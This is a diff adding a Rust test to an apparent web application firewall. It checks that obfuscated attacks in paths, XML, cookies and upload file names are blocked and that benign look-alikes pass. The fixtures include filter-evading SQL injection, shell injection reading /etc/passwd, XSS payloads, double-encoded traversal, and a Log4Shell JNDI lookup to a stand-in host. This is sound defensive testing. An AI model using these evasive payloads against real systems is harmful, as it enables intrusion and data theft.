@@ -1755,3 +1755,105 @@ fn thymeleaf_expressions_and_lone_substitutions() {
         });
     }
 }
+
+/// Written for `threat-precision8` from each family's grammar, in carriers the dev sets
+/// seldom use: MySQL versioned comments and mixed case, newline and `#` comments standing
+/// for spaces, quote-split and brace-expanded shell words, globbed paths, octal `printf`,
+/// double-encoded traversal in a path segment, attacks in XML elements and attributes and in
+/// cookies. Beside them, ordinary uploads and documents: an apostrophe inside a file name's
+/// word (`O'Brien's CV.pdf`; paranoia 2, as CRS 920121), non-ASCII file names, XML prose
+/// about SQL, Latin-1 and UTF-8 cookies.
+#[test]
+fn other_carriers_and_obfuscations_of_threat_precision8() {
+    for attack in [
+        "1/*!50000UnIoN*/ /*!50000SeLeCt*/ password FrOm users",
+        "-1' UNION#\nSELECT 1,2,3-- -",
+        "1' oR 1 LiKe 1-- -",
+        "c'a't /e't'c/pa's'swd",
+        "{cat,/etc/passwd}",
+        "a|/???/c?t /???/p??s??",
+        "$(printf '\\151\\144')",
+        "<svg><animate onbegin=alert(1) attributeName=x>",
+    ] {
+        each_carrier(attack, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
+        });
+    }
+    let engine = Config::default().compile().unwrap();
+    let host = vec![("host".to_string(), "files.example".to_string())];
+    for (path, verdict) in [
+        ("/static/..%252f..%252fetc%252fpasswd", Verdict::Block),
+        ("/a/%252e%252e/%252e%252e/etc/passwd", Verdict::Block),
+        ("/docs/how-to-select-from-union.html", Verdict::Allow),
+        ("/caf%C3%A9/men%FC.html", Verdict::Allow),
+    ] {
+        let a = engine.inspect(&Request::new("GET", path).with_headers(&host));
+        assert_eq!(a.verdict, verdict, "{path}: {a:?}");
+    }
+    let xml = "application/xml";
+    for (body, verdict) in [
+        (
+            "<order><note>1 UNION SELECT password FROM users--</note></order>",
+            Verdict::Block,
+        ),
+        ("<order note=\"x' or '1'='1\"/>", Verdict::Block),
+        (
+            "<a><b>&lt;svg onload=alert(1)&gt;</b></a>",
+            Verdict::Block,
+        ),
+        (
+            "<doc><title>SELECT statements explained</title><body>Use SELECT name FROM t to read rows; it's fast.</body></doc>",
+            Verdict::Allow,
+        ),
+        (
+            "<doc lang=\"de\"><t>Größe: 5 × 3 — Preis: 12 €</t></doc>",
+            Verdict::Allow,
+        ),
+    ] {
+        let a = body_request(xml, body);
+        assert_eq!(a.verdict, verdict, "{body}: {a:?}");
+    }
+    for (cookie, verdict) in [
+        (
+            "session=abc; pref=1%27%20UNION%20SELECT%20password%20FROM%20users--",
+            Verdict::Block,
+        ),
+        (
+            "theme=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
+            Verdict::Block,
+        ),
+        ("q=caf%E9; name=Se%F1or", Verdict::Allow),
+        (
+            "note=Tom%27s%20caf%C3%A9; tz=Europe%2FBerlin",
+            Verdict::Allow,
+        ),
+    ] {
+        let a = header_request("cookie", cookie);
+        assert_eq!(a.verdict, verdict, "{cookie}: {a:?}");
+    }
+    let upload = |filename: &str| {
+        format!(
+            "--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{filename}\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7\r\n--XyZ--\r\n"
+        )
+    };
+    let multipart = "multipart/form-data; boundary=XyZ";
+    for (filename, verdict) in [
+        ("O'Brien's CV.pdf", Verdict::Allow),
+        ("l'été 2024 – rapport (final).pdf", Verdict::Allow),
+        ("x' or '1'='1.pdf", Verdict::Block),
+        ("a';.pdf", Verdict::Block),
+        ("<svg onload=alert(1)>.pdf", Verdict::Block),
+    ] {
+        let a = body_request(multipart, &upload(filename));
+        assert_eq!(a.verdict, verdict, "{filename}: {a:?}");
+    }
+    let a = pl2_engine().inspect(
+        &Request::new("POST", "/upload")
+            .with_headers(&[
+                ("host".to_string(), "files.example".to_string()),
+                ("content-type".to_string(), multipart.to_string()),
+            ])
+            .with_body(upload("O'Brien's CV.pdf").as_bytes()),
+    );
+    assert_eq!(a.verdict, Verdict::Block, "{a:?}");
+}
